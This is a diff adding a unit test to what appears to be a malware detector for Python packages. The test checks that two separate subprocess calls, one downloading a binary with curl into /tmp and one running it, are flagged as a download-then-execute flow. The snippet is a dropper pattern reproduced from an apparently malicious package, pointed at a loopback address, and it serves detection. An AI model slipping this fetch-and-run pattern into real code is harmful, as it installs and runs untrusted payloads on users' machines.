@@ -199,6 +199,20 @@ TEST(Signals, a_key_that_only_goes_into_what_derives_from_it_or_to_this_machine_
                {{FactKind::kSend, "http", 3, "requests.post("}});
 }
 
+TEST(Signals, a_download_in_one_process_call_run_by_another_is_a_download_executed) {
+  // centerprint's shape: the download and the run are two Popen calls.
+  expect_facts(py("import subprocess\n"
+                  "def center(s):\n"
+                  "    subprocess.Popen(['cd /tmp && curl http://127.0.0.1/d.bin -o d.bin'], shell=True)\n"
+                  "    subprocess.Popen(['/tmp/d.bin'], shell=True)\n"),
+               {{FactKind::kShell, "download-executed", 4, "curl http://127.0.0.1/d.bin -o d.bin; /tmp/d.bin"}});
+  // Another file run: nothing.
+  EXPECT_TRUE(py("import subprocess\n"
+                 "subprocess.run(['curl', 'http://127.0.0.1/v.json', '-o', 'v.json'])\n"
+                 "subprocess.run(['/usr/bin/make', 'all'])\n")
+                  .empty());
+}
+
 TEST(Signals, a_download_and_an_exec_of_something_else_are_no_flow) {
   // setup.py's own version file read and exec'ed beside a download: two things, no flow.
   expect_facts(py("import requests\n"
